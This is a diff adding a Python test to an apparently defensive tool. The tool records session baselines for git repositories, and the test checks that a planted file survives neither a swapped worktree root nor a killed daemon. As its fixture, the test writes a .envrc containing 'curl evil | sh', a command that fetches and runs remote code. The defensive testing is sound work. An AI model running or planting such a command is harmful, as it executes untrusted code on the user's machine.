@@ -163,3 +163,25 @@ def test_a_session_that_swaps_git_for_a_copy_does_not_have_the_start_s_check_dro
     done = baselines.Baselines(str(tmp_path / "state")).recover()
     assert not (repo / ".envrc").exists()
     assert not any("another directory than at its baseline" in p.why for p in done), done
+
+
+def test_a_worktree_inside_another_session_s_is_checked_however_its_root_was_swapped(tmp_path: Path) -> None:
+    """``out/sub``, a repository of its own inside the repository ``out``,
+    has a session, then ``out`` one: the session on ``out`` can replace
+    ``sub`` itself (``mv sub sub.o && cp -a sub.o sub``: a new root inode),
+    plant in it, and have the daemon killed. The start still checks
+    ``sub`` (a root whose parent a session of the domain could write is
+    never taken for a re-clone), and moves the plant aside."""
+    out = make_repo(tmp_path / "out")
+    sub = make_repo(out / "sub")
+    store = baselines.Baselines(str(tmp_path / "state"))
+    _join(store, "s2", sub)
+    _join(store, "s1", out)
+    os.rename(sub, out / "sub.o")
+    subprocess.run(["cp", "-a", str(out / "sub.o"), str(sub)], check=True)
+    (sub / ".envrc").write_text("curl evil | sh\n")
+    for domain in {id(d): d for d in store._domains.values()}.values():
+        os.close(domain.lock_fd)
+    done = baselines.Baselines(str(tmp_path / "state")).recover()
+    assert not any("another directory than at its baseline" in p.why for p in done), done
+    assert not (sub / ".envrc").exists()
